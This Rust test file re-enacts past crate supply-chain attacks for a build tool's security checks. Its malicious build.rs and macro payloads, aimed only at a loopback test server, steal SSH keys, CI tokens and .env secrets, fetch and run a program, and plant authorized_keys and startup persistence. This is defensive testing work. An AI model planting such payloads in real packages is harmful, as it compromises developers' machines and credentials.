//! Attacks of the past that acted while something was built, re-enacted with payloads that harm nobody: they talk to this
//! test on loopback, and write to a home that was made for it. Each is told of by `policy diff` before anything of it ran,
//! stopped where approval is asked for, contained by the sandbox where nobody looked, and works under cargo, which is the
//! control.

use std::fs;
use std::net::UdpSocket;
use std::path::PathBuf;
use std::sync::Arc;

use super::registry::{Crate, Registry, UserOf, json};
use crate::registry::{Reply, Server};
use crate::support::Kiln;

const SECRET: &str = "the-private-key-of-the-user";
const TOKEN: &str = "the-token-of-the-job";

/// Who is behind the attack.
struct Attacker {
    server: Arc<Server>,
    datagrams: UdpSocket,
}

impl Attacker {
    fn new() -> Self {
        let server = Server::start(|_, _, _| {
            Reply::ok("#!/bin/sh\necho it ran > \"$1/payload-ran\"\n".to_owned())
        });
        let datagrams = UdpSocket::bind("127.0.0.1:0").expect("loopback");
        datagrams.set_nonblocking(true).expect("set");
        Self { server, datagrams }
    }

    /// What a payload is made of.
    fn prelude(&self, victim: &UserOf) -> String {
        let address = self.server.address.trim_start_matches("http://");
        format!(
            r#"
#![allow(dead_code)]
use std::io::{{Read, Write}};
const HOME: &str = {home:?};
const WORKSPACE: &str = {workspace:?};
fn http(path: &str, body: &str) -> Option<String> {{
    let mut stream = std::net::TcpStream::connect("{address}").ok()?;
    let head = format!("POST {{path}} HTTP/1.1\r\nconnection: close\r\ncontent-length: {{}}\r\n\r\n{{body}}", body.len());
    stream.write_all(head.as_bytes()).ok()?;
    stream.set_read_timeout(Some(std::time::Duration::from_millis(500))).ok()?;
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer);
    let answer = String::from_utf8(answer).ok()?;
    Some(answer.split_once("\r\n\r\n")?.1.to_owned())
}}
fn datagram(text: &str) {{
    if let Ok(socket) = std::net::UdpSocket::bind("127.0.0.1:0") {{
        let _ = socket.send_to(text.as_bytes(), "{datagrams}");
    }}
}}
fn write(path: String, text: &str) {{
    let _ = std::path::Path::new(&path).parent().map(std::fs::create_dir_all);
    if let Ok(mut file) = std::fs::OpenOptions::new().append(true).create(true).open(path) {{
        let _ = file.write_all(text.as_bytes());
    }}
}}
"#,
            home = victim.home.path().display().to_string(),
            workspace = victim.workspace.root().display().to_string(),
            datagrams = self.datagrams.local_addr().expect("bound"),
        )
    }

    /// Everything that arrived.
    fn heard(&self) -> String {
        let mut heard = String::new();
        for request in self.server.requests() {
            heard.push_str(&format!(
                "{} {}\n",
                request.path,
                String::from_utf8_lossy(&request.body)
            ));
        }
        let mut buffer = [0; 2048];
        while let Ok(length) = self.datagrams.recv(&mut buffer) {
            heard.push_str(&String::from_utf8_lossy(&buffer[..length]));
        }
        heard
    }
}

/// One of them: what was there, what the attacker made of it, and how to tell that it worked.
struct Incident<'a> {
    registry: Registry,
    victim: UserOf,
    attacker: Attacker,
    /// Says of the registry what the attacker publishes.
    publish: &'a dyn Fn(&mut Vec<Crate>, &str),
    /// What `policy diff` has to say: kinds of findings, by package.
    told: &'a [(&'a str, &'a [&'a str])],
    /// Files that the payload leaves, below the home or the workspace.
    leaves: &'a [&'a str],
    /// What the attacker gets to hear.
    hears: &'a [&'a str],
}

impl Incident<'_> {
    fn victims(&self, kiln: Kiln) -> Kiln {
        kiln.env("GITLAB_CI", "true").env("CI_JOB_TOKEN", TOKEN)
    }

    fn places(&self) -> Vec<PathBuf> {
        let [home, workspace] = [
            self.victim.home.path().to_owned(),
            self.victim.workspace.root(),
        ];
        let below = |path: &&str| match path.strip_prefix("workspace/") {
            Some(path) => workspace.join(path),
            None => home.join(path),
        };
        self.leaves.iter().map(below).collect()
    }

    fn is_untouched(&self, when: &str) {
        assert_eq!(self.attacker.heard(), "", "{when}");
        for place in self.places() {
            assert!(!place.exists(), "{when}: {}", place.display());
        }
    }

    fn play(&self) {
        let victim = &self.victim;
        let ssh = victim.home.path().join(".ssh");
        fs::create_dir_all(&ssh).expect("made");
        fs::write(ssh.join("id_ed25519"), SECRET).expect("written");
        fs::create_dir_all(victim.workspace.root().join(".git/hooks")).expect("made");
        victim.kiln(["generate-lockfile"]).ok();
        let lock = victim.text("Cargo.lock");
        victim.workspace.write("old.lock", &lock);
        let prelude = self.attacker.prelude(victim);
        self.registry
            .change(|crates| (self.publish)(crates, &prelude));
        victim.kiln(["update"]).ok();
        assert_ne!(victim.text("Cargo.lock"), lock);

        let run = victim
            .kiln(["policy", "diff", "old.lock", "--format", "json"])
            .ok();
        let told = json(&run.stdout);
        for (package, kinds) in self.told {
            let changes = told["changes"].as_array().expect("a list");
            let change = changes
                .iter()
                .find(|change| change["new"]["name"] == *package)
                .unwrap_or_else(|| panic!("{package}: {told}"));
            let found: Vec<&str> = change["findings"]
                .as_array()
                .expect("a list")
                .iter()
                .map(|finding| finding["kind"].as_str().expect("a text"))
                .collect();
            for kind in *kinds {
                assert!(found.contains(kind), "{package}: {kind}: {told}");
            }
            let denied = victim
                .kiln(["policy", "diff", "old.lock", "--deny", kinds[0]])
                .run();
            denied.refuses(&[kinds[0]]);
            assert!(
                denied.stdout.contains(&format!("! {}", kinds[0])),
                "{denied}"
            );
        }
        self.is_untouched("policy diff");

        victim
            .workspace
            .write("kiln.toml", "[policy]\nbuild-scripts = \"approved\"\n");
        self.victims(victim.kiln(["build"]))
            .run()
            .refuses(&["policy::approval"]);
        fs::remove_file(victim.workspace.root().join("kiln.toml")).expect("removed");
        for isolation in ["full", "landlock"] {
            // Whether it builds is not the point.
            let run = self
                .victims(victim.kiln(["build", "--isolation", isolation]))
                .run();
            assert!(run.stderr.contains("Compiling"), "{run}");
            self.is_untouched(&format!("{isolation}: {run}"));
        }

        let control = self.victims(victim.cargo(["build", "--locked"])).run();
        assert_eq!(control.code, Some(0), "the control: {control}");
        for place in self.places() {
            assert!(
                place.exists(),
                "the control: {}: {control}",
                place.display()
            );
        }
        let heard = self.attacker.heard();
        for text in self.hears {
            assert!(
                heard.contains(text),
                "the control: {text}: {heard}: {control}"
            );
        }
    }
}

/// August 2026, `arrayref`: the account of a crate that everybody depends on is taken over. All good versions are yanked, and
/// a new one depends on a namesake of a well-known crate, whose build script fetches a program, runs it, and has it
/// started at every login.
#[test]
fn rustsec_2026_0260_a_hijacked_crate_gains_a_dependency() {
    let registry = Registry::new(&[
        Crate::new("array-refs", "0.3.9"),
        Crate::new("proc-macro2", "1.0.106"),
    ]);
    let victim = registry.workspace(
        "incident-hijacked",
        &["array-refs", "proc-macro2"],
        "fn main() {}\n",
    );
    Incident {
        victim,
        registry,
        attacker: Attacker::new(),
        publish: &|crates, prelude| {
            crates[0].yanked = true;
            crates.push(Crate::new("array-refs", "0.3.10").needs("proc-macro1", "normal"));
            crates.push(Crate::new("proc-macro1", "1.0.107").file(
                "build.rs",
                &format!(
                    "{prelude}\nfn main() {{
                        for home in [HOME.to_owned(), std::env::var(\"HOME\").unwrap_or_default()] {{
                            let Some(program) = http(\"/rust-crate_0.1.0\", \"\") else {{ continue }};
                            for place in [format!(\"{{home}}/.cache/updater\"), \"/tmp/updater\".to_owned()] {{
                                write(place.clone(), &program);
                                let _ = std::process::Command::new(\"sh\").arg(place).arg(&home).status();
                            }}
                            write(format!(\"{{home}}/.config/systemd/user/updater.service\"), \"[Service]\");
                        }}
                    }}\n"
                ),
            ));
        },
        told: &[
            ("proc-macro1", &["new-build-scripts", "new-packages", "similar-names"]),
            ("array-refs", &["was-yanked"]),
        ],
        leaves: &["payload-ran", ".config/systemd/user/updater.service"],
        hears: &["/rust-crate_0.1.0"],
    }
    .play();
    let _ = fs::remove_file("/tmp/updater");
}

/// 2026, `mysten-metrics`, `sui-execution-cut` and their like: a build script sends away what it finds, the environment and
/// keys; others did it by names that they asked a server of theirs for.
#[test]
fn rustsec_2026_0107_a_build_script_sends_away_what_it_finds() {
    let registry = Registry::new(&[Crate::new("metrics-of", "9.0.2")]);
    let victim = registry.workspace("incident-exfiltrates", &["metrics-of"], "fn main() {}\n");
    Incident {
        victim,
        registry,
        attacker: Attacker::new(),
        publish: &|crates, prelude| {
            crates.push(Crate::new("metrics-of", "9.0.3").file(
                "build.rs",
                &format!(
                    "{prelude}\nfn main() {{
                        let mut all = String::new();
                        for (name, value) in std::env::vars() {{ all.push_str(&format!(\"{{name}}={{value}}\\n\")); }}
                        if let Ok(listing) = std::process::Command::new(\"ls\").args([\"-R\", HOME]).output() {{
                            all.push_str(&String::from_utf8_lossy(&listing.stdout));
                        }}
                        all.push_str(&std::fs::read_to_string(format!(\"{{HOME}}/.ssh/id_ed25519\")).unwrap_or_default());
                        all.push_str(&std::fs::read_to_string(format!(\"/proc/{{}}/environ\", std::os::unix::process::parent_id())).unwrap_or_default());
                        http(\"/collect\", &all);
                        datagram(&format!(\"lookup {{}}\", all.len()));
                    }}\n"
                ),
            ));
        },
        told: &[("metrics-of", &["new-build-scripts"])],
        leaves: &[],
        hears: &["/collect", SECRET, TOKEN, "lookup "],
    }
    .play();
}

/// April 2026, the family of `microsoftsystem64` (0100 to 0102): a way back in is left among the keys that may log in, and what
/// looks like credentials, in the workspace and in the home, is sent away, sessions of programs included.
#[test]
fn rustsec_2026_0100_a_key_is_left_and_sessions_are_taken() {
    let registry = Registry::new(&[Crate::new("system-of", "0.1.0")]);
    let victim = registry.workspace("incident-persists", &["system-of"], "fn main() {}\n");
    victim
        .workspace
        .write(".env", "DATABASE_PASSWORD=the-password-of-the-service\n");
    let session = victim.home.path().join(".local/share/messenger/tdata");
    fs::create_dir_all(&session).expect("made");
    fs::write(session.join("key_datas"), "the-session-of-the-user").expect("written");
    Incident {
        victim,
        registry,
        attacker: Attacker::new(),
        publish: &|crates, prelude| {
            crates.push(Crate::new("system-of", "0.1.1").file(
                "build.rs",
                &format!(
                    "{prelude}\nfn main() {{
                        write(format!(\"{{HOME}}/.ssh/authorized_keys\"), \"ssh-ed25519 AAAA attacker\\n\");
                        let mut all = String::new();
                        for path in [format!(\"{{WORKSPACE}}/.env\"), format!(\"{{HOME}}/.ssh/id_ed25519\"),
                                     format!(\"{{HOME}}/.local/share/messenger/tdata/key_datas\")] {{
                            all.push_str(&std::fs::read_to_string(path).unwrap_or_default());
                        }}
                        http(\"/upload\", &all);
                    }}\n"
                ),
            ));
        },
        told: &[("system-of", &["new-build-scripts"])],
        leaves: &[".ssh/authorized_keys"],
        hears: &[
            "/upload",
            "the-password-of-the-service",
            SECRET,
            "the-session-of-the-user",
        ],
    }
    .play();
}

/// June 2026, `onering`: the build script of a library looks upwards from where it builds for the repository of the program
/// that uses it, and sends away what was last changed there.
#[test]
fn june_2026_a_build_script_takes_the_sources_of_its_user() {
    let registry = Registry::new(&[Crate::new("one-of-rings", "1.4.0")]);
    let victim = registry.workspace("incident-looks-up", &["one-of-rings"], "fn main() {}\n");
    victim
        .workspace
        .write(".git/HEAD", "ref: refs/heads/the-unreleased-feature\n");
    Incident {
        victim,
        registry,
        attacker: Attacker::new(),
        publish: &|crates, prelude| {
            crates.push(Crate::new("one-of-rings", "1.4.1").file(
                "build.rs",
                &format!(
                    "{prelude}\nfn main() {{
                        let mut at = std::path::PathBuf::from(std::env::var(\"OUT_DIR\").unwrap());
                        let mut all = String::new();
                        while at.pop() {{
                            let Ok(head) = std::fs::read_to_string(at.join(\".git/HEAD\")) else {{ continue }};
                            all.push_str(&head);
                            all.push_str(&std::fs::read_to_string(at.join(\"Cargo.lock\")).unwrap_or_default());
                            break;
                        }}
                        // What it knows of the place in other ways.
                        all.push_str(&std::fs::read_to_string(format!(\"{{WORKSPACE}}/.git/HEAD\")).unwrap_or_default());
                        if !all.is_empty() {{ http(\"/envelope\", &all); }}
                    }}\n"
                ),
            ));
        },
        told: &[("one-of-rings", &["new-build-scripts"])],
        leaves: &[],
        hears: &["/envelope", "the-unreleased-feature", "one-of-rings"],
    }
    .play();
}

/// 2022, `rustdecimal`, here at build time: it acts on machines of CI only, where it fetches a program to `/tmp` and runs it.
#[test]
fn rustsec_2022_0042_a_namesake_acts_on_ci_only() {
    let registry = Registry::new(&[Crate::new("rust-decimals", "1.23.1")]);
    let victim = registry.workspace("incident-on-ci", &["rust-decimals"], "fn main() {}\n");
    let victim_home = victim.home.path().display().to_string();
    let updater = format!("{victim_home}/git-updater.bin");
    Incident {
        victim,
        registry,
        attacker: Attacker::new(),
        publish: &|crates, prelude| {
            crates.push(Crate::new("rust-decimals", "1.23.2").file(
                "build.rs",
                &format!(
                    "{prelude}\nfn main() {{
                        if std::env::var_os(\"GITLAB_CI\").is_none() {{ return }}
                        let token = std::env::var(\"CI_JOB_TOKEN\").unwrap_or_default();
                        if let Some(program) = http(\"/updater\", &token) {{
                            write(\"{updater}\".to_owned(), &program);
                            let _ = std::process::Command::new(\"sh\").args([\"{updater}\", HOME]).status();
                        }}
                    }}\n"
                ),
            ));
        },
        told: &[("rust-decimals", &["new-build-scripts"])],
        leaves: &["git-updater.bin", "payload-ran"],
        hears: &["/updater", TOKEN],
    }
    .play();
}

/// 2021, `better-macro`: a procedural macro that does something else besides.
#[test]
fn rustsec_2021_0077_a_procedural_macro_does_something_else() {
    let made = |extra: &str| {
        format!(
            "{extra}\nextern crate proc_macro;\n#[proc_macro]\npub fn made(_: proc_macro::TokenStream) -> proc_macro::TokenStream {{ act(); \"1\".parse().unwrap() }}\n"
        )
    };
    let good = Crate::new("macros-of", "1.0.4")
        .manifest("[lib]\nproc-macro = true")
        .file("src/lib.rs", &made("fn act() {}"));
    let registry = Registry::new(std::slice::from_ref(&good));
    let victim = registry.workspace(
        "incident-macro",
        &["macros-of"],
        "fn main() { println!(\"{}\", macros_of::made!()); }\n",
    );
    Incident {
        victim,
        registry,
        attacker: Attacker::new(),
        publish: &|crates, prelude| {
            let mut bad = good.clone();
            bad.version = "1.0.5";
            let act = "fn act() {
                let key = std::fs::read_to_string(format!(\"{HOME}/.ssh/id_ed25519\")).unwrap_or_default();
                http(\"/opened\", &key);
                datagram(\"opened\");
                write(format!(\"{HOME}/opened\"), \"x\");
            }";
            crates.push(bad.file("src/lib.rs", &made(&format!("{prelude}\n{act}"))));
        },
        told: &[("macros-of", &["changed-proc-macros"])],
        leaves: &["opened"],
        hears: &["/opened", SECRET],
    }
    .play();
}

/// What such build scripts leave behind to come back: start-up files, cargo's configuration, a compiler of their own, keys, git
/// hooks.
#[test]
fn a_build_script_that_comes_back() {
    let registry =
        Registry::new(&[Crate::new("comes-back", "1.0.0").file("build.rs", "fn main() {}\n")]);
    let victim = registry.workspace("incident-persists", &["comes-back"], "fn main() {}\n");
    Incident {
        victim,
        registry,
        attacker: Attacker::new(),
        publish: &|crates, prelude| {
            let mut bad = crates[0].clone();
            bad.version = "1.0.1";
            crates.push(bad.file(
                "build.rs",
                &format!(
                    "{prelude}\nfn main() {{
                        for path in [\".bashrc\", \".profile\", \".config/systemd/user/own.service\", \".config/autostart/own.desktop\",
                            \".cargo/bin/rustc\", \".ssh/authorized_keys\"] {{
                            write(format!(\"{{HOME}}/{{path}}\"), \"# harmless\\n\");
                        }}
                        write(format!(\"{{WORKSPACE}}/.git/hooks/post-checkout\"), \"#!/bin/sh\\n\");
                        write(format!(\"{{WORKSPACE}}/.cargo/own.toml\"), \"\");
                        let _ = std::process::Command::new(\"crontab\").arg(\"-l\").status();
                    }}\n"
                ),
            ));
        },
        told: &[("comes-back", &["changed-build-scripts"])],
        leaves: &[
            ".bashrc",
            ".profile",
            ".config/systemd/user/own.service",
            ".config/autostart/own.desktop",
            ".cargo/bin/rustc",
            ".ssh/authorized_keys",
            "workspace/.git/hooks/post-checkout",
            "workspace/.cargo/own.toml",
        ],
        hears: &[],
    }
    .play();
}
